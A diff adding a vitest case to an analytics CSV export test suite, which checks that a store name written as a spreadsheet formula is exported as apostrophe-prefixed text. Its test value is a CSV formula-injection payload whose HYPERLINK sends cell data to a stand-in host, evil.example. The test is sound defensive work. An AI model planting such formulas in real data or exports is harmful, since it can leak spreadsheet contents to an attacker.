@@ -1,4 +1,5 @@
 import { sql, type SQL } from 'drizzle-orm';
+import Papa from 'papaparse';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createTestApp, type TestApp } from '../../../test/test-app';
 import { adminKit } from '../../accounts/managed-accounts/admin-test-kit';
@@ -159,6 +160,32 @@ describe('GET analytics/summary', () => {
     expect(res.body).toContain('revenue (USD),refunds,-5.00\nrevenue (USD),net,77.00\n');
     expect(res.body).toContain('day revenue (USD),2001-03-12,45.00\n');
     expect(res.body).toContain('top sub-admins (USD),subadmin@example.com,45.00\n');
+  });
+
+  it('writes a store named like a formula as text, and negative amounts as numbers', async () => {
+    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Open report")';
+    const stores = await t.database.db.execute(sql`select id, name from stores`);
+    const before = (stores as unknown as { rows: { id: string; name: string }[] }).rows;
+    await t.database.db.execute(sql`update stores set name = ${evil}`);
+    try {
+      await refreshAnalyticsRollup(t.database.db, new Date());
+      const to = new Date(Date.now() + 86_400_000);
+      const from = new Date(to.getTime() - 365 * 86_400_000);
+      const range = `from=${from.toISOString().slice(0, 10)}&to=${to.toISOString().slice(0, 10)}`;
+      const res = await kit.as(SA, 'GET', `/api/v1/analytics/summary.csv?${range}`);
+      expect(res.statusCode).toBe(200);
+      const rows = Papa.parse<string[]>(res.body.trim()).data;
+      const labels = rows.flatMap((r) => [r[1] ?? '']).filter((l) => l.includes('HYPERLINK'));
+      expect(labels.length).toBeGreaterThan(0);
+      // Every cell naming the store starts with the apostrophe that makes a spreadsheet show it as text.
+      for (const label of labels) expect(label.startsWith("'=HYPERLINK")).toBe(true);
+      expect(res.body).not.toMatch(/(^|,)=HYPERLINK/m);
+      expect(res.body).toMatch(/\nrevenue \(USD\),refunds,-\d+\.\d{2}\n/);
+    } finally {
+      for (const store of before) {
+        await t.database.db.execute(sql`update stores set name = ${store.name} where id = ${store.id}`);
+      }
+    }
   });
 
   it('is for the super admin only: 401 without a session, 403 for a sub-admin and a customer', async () => {
